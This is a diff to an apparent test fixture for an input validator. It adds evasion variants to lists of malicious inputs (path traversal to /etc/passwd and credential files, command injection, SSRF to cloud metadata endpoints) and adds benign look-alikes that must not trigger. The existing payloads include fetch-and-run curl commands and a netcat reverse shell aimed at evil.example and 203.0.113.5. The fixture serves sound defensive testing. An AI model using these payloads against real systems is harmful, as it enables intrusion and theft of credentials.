@@ -21,6 +21,9 @@ MALICIOUS = {
         "/root/.ssh/id_rsa", "../.env", "../../../../../../var/runtime/bootstrap", "/home/sbx_user1051/.aws/credentials",
         "..;/..;/etc/passwd", "/var/task/.env", "file:/etc/hosts", "%2e%2e/%2e%2e/%2e%2e/etc/group",
         "/proc/self/cmdline", "../../../../../etc/passwd%00.png", "..//..//..//etc//passwd",
+        # Evasions a review found (tenth session): doubled and dot segments,
+        # JSON escapes left in text.
+        "/etc//passwd", "/etc/./shadow", "/etc/x/../passwd", "{\"file\":\"\\u002fetc\\u002fpasswd\"}",
     ],
     "command_injection": [
         "127.0.0.1; cat /etc/passwd", "8.8.8.8 | id", "x && whoami", "`id`", "$(curl -s http://evil.example/x.sh|sh)",
@@ -30,6 +33,7 @@ MALICIOUS = {
         "name & wget http://evil.example/m -O /tmp/m", "x;$IFS$9cat$IFS$9/etc/shadow", "1;env",
         "test | base64 /etc/passwd", "a\r\nid", "x; perl -e 'exec \"/bin/sh\"'", "| busybox nc 203.0.113.5 9 -e sh",
         "&& curl http://evil.example/$(hostname)",
+        "127.0.0.1\\u003b cat /etc/passwd", "{\"cmd\":\"x\\u007c id -a\"}",
     ],
     "sql_injection": [
         "' OR 1=1--", "admin'--", "1' or '1'='1", "1 OR 1=1", "' UNION SELECT username, password FROM users--",
@@ -48,6 +52,8 @@ MALICIOUS = {
         "gopher://127.0.0.1:6379/_FLUSHALL", "http://user@169.254.169.254/", "http://169.254.169.254.nip.io/",
         "169.254.169.254", "localhost:6379", "http://[::ffff:127.0.0.1]/", "http://localtest.me/", "dict://0:11211/stat",
         "http://169.254.170.2/v2/credentials", "https://evil.example@127.0.0.1/", "http://internal-db.ec2.internal:5432/",
+        "http:\\\\127.0.0.1\\admin", "http:/169.254.169.254/latest/", "http://127\u3002" "0\u3002" "0\u3002" "1/",
+        "http://\u24db\u24de\u24d2\u24d0\u24db\u24d7\u24de\u24e2\u24e3/", "http://\u2460\u2461\u2466.0.0.1/",
     ],
 }
 
@@ -84,6 +90,11 @@ BENIGN = [
     "we ship to 127 countries", "localhost is my favourite word in the docs", "meta-data",
     "http://example.com/?redirect=https://example.org/", "ftp://ftp.example.com/pub/file.tar.gz",
     "git@github.com:octo/repo.git", "s3://bucket/prefix/object", "arn:aws:s3:::bucket/key",
+    # Look-alikes of the tenth session's new rules (JSON escapes, look-alike
+    # hosts, quoted text) that must stay quiet.
+    "Dog & Cat", "Search & Find", "\"Tom\",\"Dog & Cat\"", "m\u00b2 and km\u00b2", "Step \u2460 then \u2461",
+    "\u6771\u4eac\u3002\u5927\u962a\u3002", "\uff46\uff55\uff4c\uff4c\uff57\uff49\uff44\uff54\uff48 text",
+    "C:\\new\\table.txt", "line one\\nline two", "https:/typo.example.org/page", "caf\\u00e9 au lait",
 ]
 
 def v1(params, headers=None, body=None, b64=False, path_params=None):
